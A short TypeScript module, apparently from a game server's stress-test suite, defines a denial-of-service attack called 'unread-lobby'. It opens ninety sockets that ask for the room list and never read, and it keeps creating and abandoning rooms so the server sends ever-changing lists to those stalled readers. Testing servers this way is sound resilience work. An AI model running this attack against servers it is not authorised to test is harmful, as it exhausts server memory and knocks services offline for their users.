// Many sockets in the lobby that never read, and rooms that change so that every list is sent.
import { randomBytes } from "node:crypto";
import { setTimeout as pause } from "node:timers/promises";
import type { Socket } from "node:net";
import type { Attack, Target } from "../support/attack.ts";
import { frame, openPlayer } from "../support/tcp.ts";

const READERS = 90;
const LIST = frame('42["getAvailableRooms"]');
const CHANGE_MS = 200;

export const unreadLobby: Attack = {
  name: "unread-lobby",
  async run({ signal, ...place }) {
    const open = await Promise.all(Array.from({ length: READERS }, () => openPlayer(place)));
    for (const socket of open) socket?.pause().write(LIST);
    while (!signal.aborted) {
      await changeLobby(place);
      await pause(CHANGE_MS);
    }
  },
};

/** A new room by a new key; its creator leaves at once, so the list changes twice. */
async function changeLobby(place: Pick<Target, "port" | "address">): Promise<void> {
  const socket: Socket | undefined = await openPlayer(place);
  const request = { isPrivate: false, requestId: randomBytes(12).toString("base64url") };
  socket?.write(frame(`42["createRoom",${JSON.stringify(request)}]`));
  setTimeout(() => socket?.destroy(), 1_000);
}
